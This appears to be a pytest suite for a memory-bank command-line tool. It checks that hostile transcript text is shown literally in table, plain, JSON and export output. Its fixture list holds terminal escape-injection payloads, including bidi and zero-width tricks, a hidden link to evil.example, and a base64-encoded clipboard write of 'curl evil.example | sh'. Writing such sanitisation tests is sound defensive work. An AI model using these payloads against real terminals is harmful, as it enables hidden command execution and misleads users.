"""Hostile memory text on a terminal: every command's table and plain output shows it literally, and no
escape sequence, control character, bidi override or zero-width character reaches the terminal as it is."""

from __future__ import annotations

import json
import re
import subprocess

import pytest

from test_first_hour import HYMEM, _env, run_on_terminal

# What an attacker puts into a transcript, hoping it reaches a terminal when someone reads the bank.
HOSTILE = [
    "clear \x1b[2J\x1b[H screen",
    "title \x1b]0;pwned\x07 set",
    "clipboard \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 write",
    "link \x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ here",
    "one-byte CSI \x9b31m red",
    "carriage\rreturn overwrites",
    "backspace\x08\x08\x08 and bell \x07",
    "bidi \u202egnp.exe\u202c and \u2066isolate\u2069",
    "zero\u200bwidth\u200djoin\ufeffbom",
    "tags \U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
]
# Bytes that must never come out: C0 controls but newline, tab and the ESC of the colours the table itself
# uses (checked apart), DEL, C1 controls as UTF-8, and the UTF-8 of bidi, zero-width and tag characters.
_FORBIDDEN = re.compile(
    rb"[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\xef\xbb\xbf|\xf3\xa0[\x80-\x81]"
)
_SGR = re.compile(rb"\x1b\[[0-9;]*m")  # rich's own colours and bold: the only escape sequence allowed


def _assert_safe(out: bytes, colours: bool) -> None:
    rest = out.replace(b"\r\n", b"\n")  # the terminal's own line endings (onlcr)
    if colours:
        rest = _SGR.sub(b"", rest)
    assert b"\x1b" not in rest, rest[max(0, rest.find(b"\x1b") - 60):rest.find(b"\x1b") + 60]
    assert b"\r" not in rest
    bad = _FORBIDDEN.search(rest)
    assert bad is None, rest[max(0, bad.start() - 60):bad.end() + 60]


@pytest.fixture(scope="module")
def hostile_bank(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    home = tmp / "home"
    env = {**_env(home), "HYMEM_SEARCH_MIN_SCORE": "0"}  # every memory is listed: the test embedder's scores are low
    name = tmp / "chat\x1b]0;evil\x07.jsonl"  # a hostile source name shows in log and search too
    name.write_text("".join(json.dumps({"speaker": f"Mallory\x1b[31m{i}", "text": text}) + "\n" for i, text in enumerate(HOSTILE)))
    done = subprocess.run([*HYMEM, "add", "--raw", str(name)], env=env, capture_output=True)
    assert done.returncode == 0, done.stderr
    ops = json.dumps({"op": "supersede", "target": "m1", "text": "now \x1b[5m blinking \u202e", "reason": "moved \x1b]0;x\x07"})
    done = subprocess.run([*HYMEM, "apply", "-"], input=ops.encode(), env=env, capture_output=True)
    assert done.returncode == 0, done.stderr
    return env


COMMANDS = [
    ["search", "screen clipboard link bidi zero tags"],
    ["search", "screen", "--all"],
    ["show", "m1"],
    ["show", "m3"],
    ["history", "m1"],
    ["diff", "0"],
    ["log"],
]


@pytest.mark.parametrize("colours", [False, True], ids=["NO_COLOR", "colour"])
@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: " ".join(a[:2]))
def test_table_output_on_a_terminal_shows_hostile_text_literally(hostile_bank, args, colours):
    env = dict(hostile_bank)
    if not colours:
        env["NO_COLOR"] = "1"
    else:
        env.pop("NO_COLOR", None)
    out = run_on_terminal(args, env, columns=200)
    assert b"Traceback" not in out, out.decode(errors="replace")
    _assert_safe(out, colours)
    if args[0] in ("search", "show", "history"):
        assert b"\\x1b" in out  # the escape is shown, not dropped: what was stored can be seen


@pytest.mark.parametrize("args", [*COMMANDS[:5], ["diff", "0", "-f", "plain"], ["log", "-f", "plain"]], ids=lambda a: " ".join(a[:3]))
def test_plain_output_is_one_line_a_record_and_shows_escapes(hostile_bank, args):
    args = args if "-f" in args else [*args, "-f", "plain"]
    out = run_on_terminal(args, {**hostile_bank, "NO_COLOR": "1"}, columns=200)
    assert b"Traceback" not in out
    _assert_safe(out, colours=False)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_output_is_exact_and_still_safe_on_a_terminal(hostile_bank, fmt):
    out = run_on_terminal(["search", "screen clipboard link bidi zero tags", "-f", fmt, "-n", "20"], {**hostile_bank, "NO_COLOR": "1"})
    _assert_safe(out, colours=False)
    done = subprocess.run([*HYMEM, "search", "screen clipboard link bidi zero tags", "--all", "-f", "json", "-n", "20"],
                          env=hostile_bank, capture_output=True)
    texts = {h["text"] for h in json.loads(done.stdout)}
    assert {f"Mallory\x1b[31m{i}: {t}" for i, t in enumerate(HOSTILE)} <= texts  # json keeps the exact text


def test_export_on_a_terminal_is_safe_and_imports_back_exactly(hostile_bank, tmp_path):
    out = run_on_terminal(["export"], {**hostile_bank, "NO_COLOR": "1"}, columns=200)
    _assert_safe(out, colours=False)
    exported = subprocess.run([*HYMEM, "export"], env=hostile_bank, capture_output=True).stdout
    env = {**hostile_bank, "HYMEM_BANK": str(tmp_path / "copy.db")}
    done = subprocess.run([*HYMEM, "import", "-"], input=exported, env=env, capture_output=True)
    assert done.returncode == 0, done.stderr
    again = subprocess.run([*HYMEM, "export"], env=env, capture_output=True).stdout
    assert [json.loads(x) for x in again.splitlines()[1:]] == [json.loads(x) for x in exported.splitlines()[1:]]


def test_an_error_naming_hostile_input_is_one_safe_line(hostile_bank):
    out = run_on_terminal(["show", "m1\x1b]0;x\x07"], {**hostile_bank, "NO_COLOR": "1"})
    _assert_safe(out, colours=False)
    assert out.count(b"hymem: error:") == 1
